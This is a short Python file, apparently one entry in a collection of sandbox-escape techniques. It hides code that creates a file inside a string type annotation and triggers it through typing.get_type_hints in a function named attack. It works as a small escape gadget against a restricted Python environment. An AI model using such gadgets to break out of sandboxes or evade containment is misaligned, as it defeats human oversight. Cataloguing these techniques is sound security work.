"""Class: module gadget. Source: own find. Escape: get_type_hints evaluates annotation text."""

import typing


def g(x: "open('escaped', 'w').close() or int"):
    pass


def attack(model, tokenizer, address):
    typing.get_type_hints(g)
